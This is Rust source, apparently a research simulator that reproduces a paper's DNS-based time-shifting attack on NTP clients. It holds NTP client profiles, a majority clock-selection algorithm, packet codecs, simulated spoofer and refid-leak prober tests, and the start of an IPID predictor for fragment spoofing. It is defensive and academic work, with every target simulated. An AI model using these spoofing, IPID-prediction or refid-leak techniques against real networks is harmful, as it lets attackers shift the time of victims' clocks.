            && !self.assocs.iter().any(|a| !a.dead && Some(a.addr) == self.system_peer)
        {
            self.system_peer = None;
        }
    }

    fn replenish(&mut self, ctx: &mut Ctx<'_>) {
        let now = ctx.now();
        let live = self.assocs.iter().filter(|a| !a.dead).count();
        if self.profile.cache_dns_list {
            // systemd-timesyncd: walk the cached list first.
            if live == 0 {
                if let Some(next) = self.cached_addrs.pop_front() {
                    self.assocs.retain(|a| !a.dead);
                    self.assocs.push(Association::new(next, now));
                } else if self.profile.runtime_dns {
                    self.issue_dns(ctx);
                }
            }
            return;
        }
        // ntpd-style pool behaviour: keep mobilising until MAXCLOCK is
        // reached (each pool lookup yields 4 addresses; rotation surfaces
        // fresh ones after the TTL). Dropping below MINCLOCK forces the
        // same path — the run-time attack's trigger.
        if self.profile.runtime_dns && live < self.profile.max_associations {
            self.issue_dns(ctx);
        }
        if let Some(outage_limit) = self.profile.reresolve_on_outage {
            if live == 0 {
                let since = *self.outage_since.get_or_insert(now);
                if now.saturating_since(since) >= outage_limit {
                    self.outage_since = Some(now); // restart the timer
                    self.issue_dns(ctx);
                }
            } else {
                self.outage_since = None;
            }
        }
    }

    fn try_discipline(&mut self, ctx: &mut Ctx<'_>) {
        let now = ctx.now();
        let fresh_window = self.profile.poll_interval.saturating_mul(3);
        let samples: Vec<OffsetSample> = self
            .assocs
            .iter()
            .filter(|a| !a.dead)
            .filter_map(|a| {
                let at = a.sample_at?;
                if now.saturating_since(at) <= fresh_window {
                    a.sample
                } else {
                    None
                }
            })
            .collect();
        // Quorum: wait for fresh samples from a majority of the live
        // associations before deciding — a lone early responder must not
        // steer the clock while the rest are still in flight (the
        // behaviour of ntpd's reach/fit gating).
        let live = self.assocs.iter().filter(|a| !a.dead).count();
        if samples.len() < (live / 2 + 1).max(1) {
            return;
        }
        let Some(selection) = select(&samples, default_window()) else {
            return;
        };
        // The system peer is sticky: ntpd keeps it while it remains a
        // survivor, so an attacker probing the refid (scenario P2) learns
        // upstreams one at a time, only after killing the current one.
        match self.system_peer {
            Some(peer) if selection.survivors.contains(&peer) => {}
            _ => self.system_peer = selection.survivors.first().copied(),
        }
        let at_boot = !self.synced_once;
        // Only act on meaningful corrections; sub-millisecond noise is the
        // steady state.
        if selection.offset.abs().as_nanos() < 1_000_000 && self.synced_once {
            return;
        }
        match self.clock.apply_offset(now, selection.offset, at_boot) {
            ClockAdjustment::Stepped => {
                self.stats.steps += 1;
                self.synced_once = true;
                // A step invalidates samples measured against the pre-step
                // clock, including requests still in flight.
                for a in &mut self.assocs {
                    a.sample = None;
                    a.sample_at = None;
                    a.pending_t1 = None;
                }
            }
            ClockAdjustment::Slewed => {
                self.synced_once = true;
            }
            ClockAdjustment::PanicRejected => {}
        }
        if self.profile.one_shot && self.synced_once {
            self.done = true;
        }
    }

    fn handle_ntp_response(&mut self, ctx: &mut Ctx<'_>, d: &Datagram, resp: NtpPacket) {
        let now = ctx.now();
        let t4 = self.clock.now(now);
        let Some(assoc) = self.assocs.iter_mut().find(|a| a.addr == d.src && !a.dead) else {
            return;
        };
        // ntpd's origin check ("bogus" test): a mode-4 packet whose origin
        // timestamp does not echo an outstanding request is rejected —
        // unsolicited packets included, which is how blind spoofs without
        // an in-flight query are caught.
        let t1 = match assoc.pending_t1 {
            Some(t1) if resp.origin_ts == t1 => t1,
            _ => {
                self.stats.origin_check_failures += 1;
                return; // blind spoof attempt or stale duplicate
            }
        };
        assoc.pending_t1 = None;
        if resp.is_kod() {
            self.stats.kods_received += 1;
            assoc.kod = true;
            return;
        }
        let (offset, delay) = offset_and_delay(t1, resp.recv_ts, resp.xmit_ts, t4);
        assoc.reach |= 1;
        assoc.misses = 0;
        assoc.sample = Some(OffsetSample { server: d.src, offset, delay });
        assoc.sample_at = Some(now);
        self.stats.responses += 1;
        self.try_discipline(ctx);
    }

    fn handle_dns_reply(&mut self, ctx: &mut Ctx<'_>, addrs: Vec<Ipv4Addr>) {
        if addrs.is_empty() {
            return;
        }
        if self.profile.cache_dns_list {
            let mut iter = addrs.into_iter();
            if let Some(first) = iter.next() {
                self.cached_addrs = iter.collect();
                self.assocs.retain(|a| !a.dead);
                if self.assocs.iter().all(|a| a.addr != first) {
                    self.assocs.clear();
                    self.assocs.push(Association::new(first, ctx.now()));
                }
            }
            return;
        }
        if self.profile.dns_per_sync {
            // Android: one SNTP exchange against the first address.
            self.assocs.clear();
            self.assocs.push(Association::new(addrs[0], ctx.now()));
            self.poll(ctx, 0);
            return;
        }
        let take = if self.profile.one_shot { addrs.len().min(4) } else { addrs.len() };
        let slice: Vec<Ipv4Addr> = addrs.into_iter().take(take).collect();
        self.mobilize(ctx, &slice);
    }

    fn serve_query(&mut self, ctx: &mut Ctx<'_>, d: &Datagram, req: NtpPacket) {
        // ntpd's default server role: respond with our clock; the refid
        // leaks our current system peer — scenario P2 reads it.
        let now = self.clock.now(ctx.now());
        let ref_id = self.system_peer.map(|p| p.octets()).unwrap_or([0, 0, 0, 0]);
        let resp = NtpPacket::server_response(&req, 3, ref_id, now, now);
        ctx.send_udp(d.src, NTP_PORT, d.src_port, resp.encode());
    }
}

impl Host for NtpClient {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        if self.profile.dns_per_sync {
            self.next_sync = ctx.now();
        } else {
            self.issue_dns(ctx);
        }
        ctx.set_timer(TICK_INTERVAL, TICK);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: TimerToken) {
        if token != TICK || self.done {
            return;
        }
        let now = ctx.now();
        if self.profile.dns_per_sync && now >= self.next_sync {
            self.next_sync = now + self.profile.sync_interval;
            self.last_dns = None; // Android always re-queries
            self.issue_dns(ctx);
        }
        if !self.profile.dns_per_sync {
            for idx in 0..self.assocs.len() {
                if !self.assocs[idx].dead && self.assocs[idx].next_poll <= now {
                    self.poll(ctx, idx);
                }
            }
            self.check_unreachable();
            self.replenish(ctx);
        }
        ctx.set_timer(TICK_INTERVAL, TICK);
    }

    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        if self.done {
            return;
        }
        if let Some(reply) = self.stub.handle(d) {
            self.handle_dns_reply(ctx, reply.addrs);
            return;
        }
        if d.dst_port == NTP_PORT {
            match peek_mode(&d.payload) {
                Some(NtpMode::Server) => {
                    if let Ok(resp) = NtpPacket::decode(&d.payload) {
                        self.handle_ntp_response(ctx, d, resp);
                    }
                }
                Some(NtpMode::Client) if self.profile.acts_as_server => {
                    if let Ok(req) = NtpPacket::decode(&d.payload) {
                        self.serve_query(ctx, d, req);
                    }
                }
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::server::NtpServer;
    use crate::timestamp::NtpDuration;
    use dns::prelude::*;

    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
    const CLIENT: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 100);

    fn pool_servers(n: u8) -> Vec<Ipv4Addr> {
        (1..=n).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect()
    }

    /// Victim network: resolver + pool NS + honest (or shifted) servers.
    fn build(seed: u64, shift: f64, kind: ClientKind) -> Simulator {
        let mut sim = Simulator::with_topology(
            seed,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(15))),
        );
        let servers = pool_servers(8);
        for &s in &servers {
            let host = if shift == 0.0 {
                NtpServer::honest()
            } else {
                NtpServer::shifted(NtpDuration::from_secs_f64(shift))
            };
            sim.add_host(s, OsProfile::linux(), Box::new(host)).unwrap();
        }
        let zone = pool_zone(servers, 4, NS);
        let ns_list = spawn_zone_nameservers(&mut sim, &zone, OsProfile::nameserver(548));
        sim.add_host(
            RESOLVER,
            OsProfile::linux(),
            Box::new(Resolver::new(
                ResolverConfig::default(),
                vec![("pool.ntp.org".parse().unwrap(), ns_list)],
            )),
        )
        .unwrap();
        sim.add_host(
            CLIENT,
            OsProfile::linux(),
            Box::new(NtpClient::new(ClientProfile::for_kind(kind), RESOLVER)),
        )
        .unwrap();
        sim
    }

    #[test]
    fn ntpd_boots_and_stays_in_sync_with_honest_pool() {
        let mut sim = build(1, 0.0, ClientKind::Ntpd);
        sim.run_for(SimDuration::from_mins(10));
        let lookups_after_fill = {
            let c: &NtpClient = sim.host(CLIENT).unwrap();
            assert!(c.offset_secs(sim.now()).abs() < 0.5, "offset {}", c.offset_secs(sim.now()));
            assert_eq!(c.live_servers().len(), 6, "pool fills to MAXCLOCK margin");
            assert!(c.system_peer().is_some());
            c.stats.dns_lookups
        };
        // Once full, a healthy ntpd issues no further lookups.
        sim.run_for(SimDuration::from_mins(20));
        let c: &NtpClient = sim.host(CLIENT).unwrap();
        assert_eq!(c.stats.dns_lookups, lookups_after_fill, "no re-query while healthy");
    }

    #[test]
    fn boot_against_malicious_pool_shifts_clock() {
        // Boot-time attack endgame: the resolver hands out attacker servers;
        // every client kind takes the shifted time at boot.
        for kind in ClientKind::all() {
            let mut sim = build(2, -500.0, kind);
            sim.run_for(SimDuration::from_mins(10));
            let c: &NtpClient = sim.host(CLIENT).unwrap();
            let off = c.offset_secs(sim.now());
            assert!((off + 500.0).abs() < 1.0, "{}: expected -500 s shift, got {off}", kind.name());
        }
    }

    #[test]
    fn one_shot_ntpdate_finishes() {
        let mut sim = build(3, 0.0, ClientKind::Ntpdate);
        sim.run_for(SimDuration::from_mins(5));
        let c: &NtpClient = sim.host(CLIENT).unwrap();
        assert!(c.finished());
        assert_eq!(c.stats.dns_lookups, 1);
    }

    #[test]
    fn android_queries_dns_every_sync() {
        let mut sim = build(4, 0.0, ClientKind::AndroidSntp);
        sim.run_for(SimDuration::from_mins(10));
        let c: &NtpClient = sim.host(CLIENT).unwrap();
        assert!(
            c.stats.dns_lookups >= 8,
            "Android must look up DNS per sync, got {}",
            c.stats.dns_lookups
        );
        assert!(c.offset_secs(sim.now()).abs() < 0.5);
    }

    #[test]
    fn ntpclient_never_requeries() {
        let mut sim = build(5, 0.0, ClientKind::NtpClientTiny);
        sim.run_for(SimDuration::from_mins(30));
        let c: &NtpClient = sim.host(CLIENT).unwrap();
        assert_eq!(c.stats.dns_lookups, 1);
    }

    #[test]
    fn origin_check_rejects_blind_spoof() {
        struct Spoofer {
            victim: Ipv4Addr,
            honest_pool: Vec<Ipv4Addr>,
        }
        impl Host for Spoofer {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.set_timer(SimDuration::from_secs(70), 0);
            }
            fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: TimerToken) {
                // Blind mode-4 spoofs claiming to be each pool server (the
                // attacker cannot know which 4-of-8 rotation the victim
                // associated with, so it sprays them all) with a huge
                // offset; the origin timestamp is a guess and fails.
                let bogus = NtpPacket::server_response(
                    &NtpPacket::client_request(NtpTimestamp::from_secs_nanos(1, 0)),
                    2,
                    [1, 2, 3, 4],
                    NtpTimestamp::from_secs_nanos(999, 0),
                    NtpTimestamp::from_secs_nanos(999, 0),
                );
                for &honest in &self.honest_pool {
                    ctx.send_udp_spoofed(honest, self.victim, NTP_PORT, NTP_PORT, bogus.encode());
                }
                ctx.set_timer(SimDuration::from_secs(5), 0);
            }
        }
        let mut sim = build(6, 0.0, ClientKind::Ntpd);
        sim.add_host(
            "203.0.113.66".parse().unwrap(),
            OsProfile::linux(),
            Box::new(Spoofer { victim: CLIENT, honest_pool: pool_servers(8) }),
        )
        .unwrap();
        sim.run_for(SimDuration::from_mins(10));
        let c: &NtpClient = sim.host(CLIENT).unwrap();
        assert!(c.stats.origin_check_failures > 0);
        assert!(c.offset_secs(sim.now()).abs() < 0.5, "spoof must not shift clock");
    }

    #[test]
    fn table1_vulnerability_matrix() {
        // Matches the paper's Table I.
        let expect: [(ClientKind, bool, Option<bool>); 7] = [
            (ClientKind::Ntpd, true, Some(true)),
            (ClientKind::OpenNtpd, true, Some(false)),
            (ClientKind::Chrony, true, Some(true)),
            (ClientKind::Ntpdate, true, None),
            (ClientKind::AndroidSntp, true, Some(true)),
            (ClientKind::NtpClientTiny, true, Some(false)),
            (ClientKind::SystemdTimesyncd, true, Some(true)),
        ];
        for (kind, boot, run) in expect {
            let p = ClientProfile::for_kind(kind);
            assert_eq!(p.vulnerable_boot_time(), boot, "{}", kind.name());
            assert_eq!(p.vulnerable_run_time(), run, "{}", kind.name());
        }
    }

    #[test]
    fn ntpd_acts_as_server_and_leaks_system_peer() {
        struct Prober {
            victim: Ipv4Addr,
            pub leaked: Option<Ipv4Addr>,
        }
        impl Host for Prober {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.set_timer(SimDuration::from_mins(3), 0);
            }
            fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: TimerToken) {
                let t = NtpTimestamp::at_sim_time(ctx.now());
                ctx.send_udp(
                    self.victim,
                    NTP_PORT,
                    NTP_PORT,
                    NtpPacket::client_request(t).encode(),
                );
            }
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
                if let Ok(resp) = NtpPacket::decode(&d.payload) {
                    self.leaked = resp.upstream_addr();
                }
            }
        }
        let prober_addr: Ipv4Addr = "203.0.113.99".parse().unwrap();
        let mut sim = build(7, 0.0, ClientKind::Ntpd);
        sim.add_host(
            prober_addr,
            OsProfile::linux(),
            Box::new(Prober { victim: CLIENT, leaked: None }),
        )
        .unwrap();
        sim.run_for(SimDuration::from_mins(5));
        let p: &Prober = sim.host(prober_addr).unwrap();
        let leaked = p.leaked.expect("refid leak must answer");
        assert!(
            pool_servers(8).contains(&leaked),
            "leaked refid {leaked} must be one of the upstreams"
        );
    }
}
