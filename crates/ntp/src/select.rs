//! Clock selection: picking the offset to apply from multiple servers.
//!
//! A simplified majority-cluster algorithm in the spirit of ntpd's
//! intersection/cluster algorithms: sort the candidate offsets, find the
//! largest group that fits inside a window, and accept its mean only if the
//! group is a strict majority of the candidates. This is the property the
//! paper leans on: shifting a victim requires shifting a **majority** of
//! its sources (§V-B), which the DNS attack achieves by replacing the
//! sources wholesale.

use std::net::Ipv4Addr;

use crate::timestamp::NtpDuration;

/// One server's offset sample.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct OffsetSample {
    /// The server that produced the sample.
    pub server: Ipv4Addr,
    /// Measured offset (server − client).
    pub offset: NtpDuration,
    /// Measured round-trip delay.
    pub delay: NtpDuration,
}

/// The outcome of a selection round.
#[derive(Debug, Clone, PartialEq)]
pub struct Selection {
    /// Mean offset of the winning cluster.
    pub offset: NtpDuration,
    /// The servers in the winning cluster ("truechimers").
    pub survivors: Vec<Ipv4Addr>,
}

/// Finds the majority cluster among `samples` using `window` as the maximum
/// spread inside a cluster. Returns `None` when no strict majority agrees —
/// the "falsetickers ≥ truechimers" case where ntpd refuses to set the
/// clock.
pub fn select(samples: &[OffsetSample], window: NtpDuration) -> Option<Selection> {
    if samples.is_empty() {
        return None;
    }
    let mut sorted: Vec<&OffsetSample> = samples.iter().collect();
    sorted.sort_by_key(|s| s.offset);
    // Largest window-bounded run.
    let mut best: Option<(usize, usize)> = None; // (start, len)
    let mut start = 0;
    for end in 0..sorted.len() {
        while sorted[end].offset - sorted[start].offset > window {
            start += 1;
        }
        let len = end - start + 1;
        if best.map(|(_, l)| len > l).unwrap_or(true) {
            best = Some((start, len));
        }
    }
    let (start, len) = best.expect("samples nonempty");
    if len * 2 <= samples.len() {
        return None; // no strict majority
    }
    let cluster = &sorted[start..start + len];
    let mean_nanos: i64 = (cluster.iter().map(|s| i128::from(s.offset.as_nanos())).sum::<i128>()
        / len as i128) as i64;
    Some(Selection {
        offset: NtpDuration::from_nanos(mean_nanos),
        survivors: cluster.iter().map(|s| s.server).collect(),
    })
}

/// The default cluster window used by the clients (400 ms: generous against
/// network jitter, tiny against a 500 s shift).
pub fn default_window() -> NtpDuration {
    NtpDuration::from_nanos(400_000_000)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(i: u8, offset_s: f64) -> OffsetSample {
        OffsetSample {
            server: Ipv4Addr::new(192, 0, 2, i),
            offset: NtpDuration::from_secs_f64(offset_s),
            delay: NtpDuration::from_nanos(40_000_000),
        }
    }

    #[test]
    fn honest_majority_wins_over_one_liar() {
        let samples = [
            sample(1, 0.001),
            sample(2, -0.002),
            sample(3, 0.003),
            sample(4, -500.0), // the falseticker
        ];
        let sel = select(&samples, default_window()).unwrap();
        assert_eq!(sel.survivors.len(), 3);
        assert!(sel.offset.as_secs_f64().abs() < 0.01);
    }

    #[test]
    fn attacker_majority_shifts_clock() {
        // After the DNS attack the client's sources are mostly malicious and
        // all agree on −500 s.
        let samples = [
            sample(1, -500.0),
            sample(2, -500.001),
            sample(3, -499.999),
            sample(4, 0.0), // lone honest survivor
        ];
        let sel = select(&samples, default_window()).unwrap();
        assert_eq!(sel.survivors.len(), 3);
        assert!((sel.offset.as_secs_f64() + 500.0).abs() < 0.01);
    }

    #[test]
    fn split_brain_yields_no_selection() {
        let samples = [sample(1, 0.0), sample(2, -500.0)];
        assert!(select(&samples, default_window()).is_none());
    }

    #[test]
    fn exact_half_is_not_a_majority() {
        let samples = [sample(1, 0.0), sample(2, 0.001), sample(3, -500.0), sample(4, -500.001)];
        assert!(select(&samples, default_window()).is_none());
    }

    #[test]
    fn single_sample_is_accepted() {
        // SNTP clients trust their lone server — the reason boot-time
        // attacks need no majority at all.
        let samples = [sample(1, -500.0)];
        let sel = select(&samples, default_window()).unwrap();
        assert_eq!(sel.survivors.len(), 1);
        assert!((sel.offset.as_secs_f64() + 500.0).abs() < 1e-9);
    }

    #[test]
    fn empty_yields_none() {
        assert!(select(&[], default_window()).is_none());
    }

    #[test]
    fn mean_of_cluster_is_returned() {
        let samples = [sample(1, 0.1), sample(2, 0.2), sample(3, 0.3)];
        let sel = select(&samples, NtpDuration::from_secs(1)).unwrap();
        assert!((sel.offset.as_secs_f64() - 0.2).abs() < 1e-9);
    }
}
