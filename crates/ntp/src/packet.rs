//! The 48-byte NTP packet (RFC 5905 §7.3) plus the mode-6 control messages
//! used by the configuration-interface leak (§IV-B2c of the paper).

use core::fmt;
use std::net::Ipv4Addr;

use bytes::{BufMut, Bytes, BytesMut};
use netsim::error::WireError;

use crate::timestamp::NtpTimestamp;

/// The well-known NTP port.
pub const NTP_PORT: u16 = 123;

/// Packet modes relevant to the simulation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum NtpMode {
    /// Client request.
    Client,
    /// Server response.
    Server,
    /// Control (mode 6) message — the ntpdc/ntpq interface.
    Control,
    /// Anything else (symmetric, broadcast…), carried opaquely.
    Other(u8),
}

impl NtpMode {
    /// Wire value (3 bits).
    pub fn code(self) -> u8 {
        match self {
            NtpMode::Client => 3,
            NtpMode::Server => 4,
            NtpMode::Control => 6,
            NtpMode::Other(code) => code & 0x7,
        }
    }

    /// Parses the wire value.
    pub fn from_code(code: u8) -> NtpMode {
        match code & 0x7 {
            3 => NtpMode::Client,
            4 => NtpMode::Server,
            6 => NtpMode::Control,
            other => NtpMode::Other(other),
        }
    }
}

/// The Kiss-o'-Death "RATE" reference identifier (RFC 5905 §7.4).
pub const KOD_RATE: [u8; 4] = *b"RATE";

/// A mode 3/4 NTP packet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct NtpPacket {
    /// Leap indicator (0 = none, 3 = unsynchronised).
    pub leap: u8,
    /// Protocol version (4).
    pub version: u8,
    /// Packet mode.
    pub mode: NtpMode,
    /// Stratum; 0 encodes a Kiss-o'-Death packet.
    pub stratum: u8,
    /// Log2 poll interval.
    pub poll: i8,
    /// Log2 precision.
    pub precision: i8,
    /// Root delay (NTP short format, opaque here).
    pub root_delay: u32,
    /// Root dispersion (opaque).
    pub root_dispersion: u32,
    /// Reference ID: KoD code for stratum 0, upstream IPv4 for stratum ≥ 2
    /// — the leak exploited by attack scenario P2.
    pub ref_id: [u8; 4],
    /// Reference timestamp.
    pub ref_ts: NtpTimestamp,
    /// Origin timestamp (echoed client transmit time).
    pub origin_ts: NtpTimestamp,
    /// Receive timestamp.
    pub recv_ts: NtpTimestamp,
    /// Transmit timestamp.
    pub xmit_ts: NtpTimestamp,
}

impl NtpPacket {
    /// A fresh client (mode 3) request with transmit time `xmit`.
    pub fn client_request(xmit: NtpTimestamp) -> NtpPacket {
        NtpPacket {
            leap: 0,
            version: 4,
            mode: NtpMode::Client,
            stratum: 0,
            poll: 6,
            precision: -20,
            root_delay: 0,
            root_dispersion: 0,
            ref_id: [0; 4],
            ref_ts: NtpTimestamp::ZERO,
            origin_ts: NtpTimestamp::ZERO,
            recv_ts: NtpTimestamp::ZERO,
            xmit_ts: xmit,
        }
    }

    /// A server (mode 4) response to `request`.
    pub fn server_response(
        request: &NtpPacket,
        stratum: u8,
        ref_id: [u8; 4],
        recv: NtpTimestamp,
        xmit: NtpTimestamp,
    ) -> NtpPacket {
        NtpPacket {
            leap: 0,
            version: 4,
            mode: NtpMode::Server,
            stratum,
            poll: request.poll,
            precision: -20,
            root_delay: 0x0000_0100,
            root_dispersion: 0x0000_0100,
            ref_id,
            ref_ts: recv,
            origin_ts: request.xmit_ts,
            recv_ts: recv,
            xmit_ts: xmit,
        }
    }

    /// A Kiss-o'-Death RATE packet answering `request` (stratum 0).
    pub fn kiss_of_death(request: &NtpPacket, xmit: NtpTimestamp) -> NtpPacket {
        NtpPacket {
            stratum: 0,
            ref_id: KOD_RATE,
            ..NtpPacket::server_response(request, 0, KOD_RATE, xmit, xmit)
        }
    }

    /// True if this is a Kiss-o'-Death RATE packet.
    pub fn is_kod(&self) -> bool {
        self.mode == NtpMode::Server && self.stratum == 0 && self.ref_id == KOD_RATE
    }

    /// The upstream server address leaked in the refid, for stratum ≥ 2
    /// responses (attack scenario P2 reads this).
    pub fn upstream_addr(&self) -> Option<Ipv4Addr> {
        if self.mode == NtpMode::Server && self.stratum >= 2 {
            Some(Ipv4Addr::from(self.ref_id))
        } else {
            None
        }
    }

    /// Encodes to the 48-byte wire format.
    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::with_capacity(48);
        buf.put_u8((self.leap & 0x3) << 6 | (self.version & 0x7) << 3 | self.mode.code());
        buf.put_u8(self.stratum);
        buf.put_i8(self.poll);
        buf.put_i8(self.precision);
        buf.put_u32(self.root_delay);
        buf.put_u32(self.root_dispersion);
        buf.put_slice(&self.ref_id);
        buf.put_u64(self.ref_ts.to_bits());
        buf.put_u64(self.origin_ts.to_bits());
        buf.put_u64(self.recv_ts.to_bits());
        buf.put_u64(self.xmit_ts.to_bits());
        buf.freeze()
    }

    /// Decodes from wire bytes.
    ///
    /// # Errors
    ///
    /// Returns [`WireError::Truncated`] for inputs under 48 bytes.
    pub fn decode(data: &[u8]) -> Result<NtpPacket, WireError> {
        if data.len() < 48 {
            return Err(WireError::Truncated { needed: 48, got: data.len() });
        }
        let u64_at = |i: usize| u64::from_be_bytes(data[i..i + 8].try_into().expect("slice of 8"));
        Ok(NtpPacket {
            leap: data[0] >> 6,
            version: (data[0] >> 3) & 0x7,
            mode: NtpMode::from_code(data[0]),
            stratum: data[1],
            poll: data[2] as i8,
            precision: data[3] as i8,
            root_delay: u32::from_be_bytes(data[4..8].try_into().expect("4")),
            root_dispersion: u32::from_be_bytes(data[8..12].try_into().expect("4")),
            ref_id: data[12..16].try_into().expect("4"),
            ref_ts: NtpTimestamp::from_bits(u64_at(16)),
            origin_ts: NtpTimestamp::from_bits(u64_at(24)),
            recv_ts: NtpTimestamp::from_bits(u64_at(32)),
            xmit_ts: NtpTimestamp::from_bits(u64_at(40)),
        })
    }
}

impl fmt::Display for NtpPacket {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "NTPv{} mode={} stratum={} xmit={}",
            self.version,
            self.mode.code(),
            self.stratum,
            self.xmit_ts
        )
    }
}

/// A minimal mode-6 control exchange: `PeersRequest` asks a server for its
/// upstream peers; `PeersResponse` lists them. Real ntpd exposes this via
/// `ntpq -c rv` / readvar; the simulation carries the list directly.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ControlMessage {
    /// Request the peer list.
    PeersRequest,
    /// The configured/active upstream peers.
    PeersResponse(Vec<Ipv4Addr>),
}

impl ControlMessage {
    /// Opcode used on the wire for the peers exchange.
    const OP_PEERS: u8 = 1;

    /// Encodes the control message: a mode-6 first byte, an opcode, a count
    /// and the peer addresses.
    pub fn encode(&self) -> Bytes {
        let mut buf = BytesMut::new();
        buf.put_u8(0x26); // LI=0, VN=4, mode=6
        match self {
            ControlMessage::PeersRequest => {
                buf.put_u8(Self::OP_PEERS);
                buf.put_u8(0); // response flag
                buf.put_u8(0); // count
            }
            ControlMessage::PeersResponse(peers) => {
                buf.put_u8(Self::OP_PEERS);
                buf.put_u8(1);
                buf.put_u8(peers.len().min(255) as u8);
                for p in peers.iter().take(255) {
                    buf.put_slice(&p.octets());
                }
            }
        }
        buf.freeze()
    }

    /// Decodes a control message.
    ///
    /// # Errors
    ///
    /// Returns [`WireError`] on truncation or a non-control mode byte.
    pub fn decode(data: &[u8]) -> Result<ControlMessage, WireError> {
        if data.len() < 4 {
            return Err(WireError::Truncated { needed: 4, got: data.len() });
        }
        if data[0] & 0x7 != 6 || data[1] != Self::OP_PEERS {
            return Err(WireError::BadField { field: "control mode/opcode" });
        }
        if data[2] == 0 {
            return Ok(ControlMessage::PeersRequest);
        }
        let count = usize::from(data[3]);
        if data.len() < 4 + count * 4 {
            return Err(WireError::Truncated { needed: 4 + count * 4, got: data.len() });
        }
        let peers = (0..count)
            .map(|i| {
                let o = 4 + i * 4;
                Ipv4Addr::new(data[o], data[o + 1], data[o + 2], data[o + 3])
            })
            .collect();
        Ok(ControlMessage::PeersResponse(peers))
    }
}

/// Distinguishes NTP datagram payloads without full decoding.
pub fn peek_mode(data: &[u8]) -> Option<NtpMode> {
    data.first().map(|b| NtpMode::from_code(*b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::timestamp::NtpDuration;

    #[test]
    fn packet_round_trip() {
        let t = NtpTimestamp::from_secs_nanos(3_850_000_100, 123_456_789);
        let req = NtpPacket::client_request(t);
        let wire = req.encode();
        assert_eq!(wire.len(), 48);
        assert_eq!(NtpPacket::decode(&wire).unwrap(), req);
    }

    #[test]
    fn server_response_echoes_origin() {
        let t1 = NtpTimestamp::from_secs_nanos(3_850_000_100, 0);
        let req = NtpPacket::client_request(t1);
        let t2 = t1 + NtpDuration::from_secs_f64(0.05);
        let resp = NtpPacket::server_response(&req, 2, [192, 0, 2, 1], t2, t2);
        assert_eq!(resp.origin_ts, t1);
        assert_eq!(resp.upstream_addr(), Some(Ipv4Addr::new(192, 0, 2, 1)));
        assert!(!resp.is_kod());
    }

    #[test]
    fn kod_detected() {
        let req = NtpPacket::client_request(NtpTimestamp::ZERO);
        let kod = NtpPacket::kiss_of_death(&req, NtpTimestamp::ZERO);
        let back = NtpPacket::decode(&kod.encode()).unwrap();
        assert!(back.is_kod());
        assert_eq!(back.upstream_addr(), None);
    }

    #[test]
    fn short_packet_rejected() {
        assert!(NtpPacket::decode(&[0u8; 47]).is_err());
    }

    #[test]
    fn control_round_trip() {
        let req = ControlMessage::PeersRequest;
        assert_eq!(ControlMessage::decode(&req.encode()).unwrap(), req);
        let resp = ControlMessage::PeersResponse(vec![
            Ipv4Addr::new(1, 2, 3, 4),
            Ipv4Addr::new(5, 6, 7, 8),
        ]);
        assert_eq!(ControlMessage::decode(&resp.encode()).unwrap(), resp);
    }

    #[test]
    fn peek_mode_distinguishes_control() {
        let req = NtpPacket::client_request(NtpTimestamp::ZERO);
        assert_eq!(peek_mode(&req.encode()), Some(NtpMode::Client));
        assert_eq!(peek_mode(&ControlMessage::PeersRequest.encode()), Some(NtpMode::Control));
    }
}
