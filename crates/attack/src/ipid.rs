//! IPID prediction (paper §III-2).
//!
//! The attacker samples a nameserver's IPID counter by sending probe
//! queries and reading the identification field off the responses, then
//! extrapolates the counter's rate to predict the IPID the nameserver will
//! assign to its response to the *victim resolver* — the value the spoofed
//! fragment must carry. Prediction error is covered by planting a window
//! of fragments (Linux accepts 64 pending fragments per peer, Windows 100).

use netsim::time::SimTime;

/// Rolling estimator of a remote host's IPID counter.
#[derive(Debug, Clone)]
pub struct IpidPredictor {
    samples: Vec<(SimTime, u16)>,
    max_samples: usize,
}

impl Default for IpidPredictor {
    fn default() -> Self {
        IpidPredictor::new()
    }
}

impl IpidPredictor {
    /// Creates a predictor keeping up to 32 samples.
    pub fn new() -> Self {
        IpidPredictor { samples: Vec::new(), max_samples: 32 }
    }

    /// Records an observed `(time, ipid)` pair from a probe response.
    pub fn observe(&mut self, at: SimTime, ipid: u16) {
        // Drop out-of-order arrivals to keep the series monotone in time.
        if let Some(&(last_t, _)) = self.samples.last() {
            if at < last_t {
                return;
            }
        }
        self.samples.push((at, ipid));
        if self.samples.len() > self.max_samples {
            self.samples.remove(0);
        }
    }

    /// Number of samples held.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// True if no samples were recorded yet.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// Estimated counter increments per second (wraparound-aware), or
    /// `None` with fewer than two samples.
    pub fn rate_per_sec(&self) -> Option<f64> {
        let (first_t, first_id) = *self.samples.first()?;
        let (last_t, last_id) = *self.samples.last()?;
        let dt = last_t.saturating_since(first_t).as_secs_f64();
        if dt <= 0.0 || self.samples.len() < 2 {
            return None;
        }
        let delta = last_id.wrapping_sub(first_id);
        Some(f64::from(delta) / dt)
    }

    /// Predicts the IPID window the target will likely use at time `at`:
    /// `width` consecutive values starting just past the last observation,
    /// advanced by a *conservatively low* rate estimate so the window
    /// brackets the true counter (overshooting the base would miss an idle
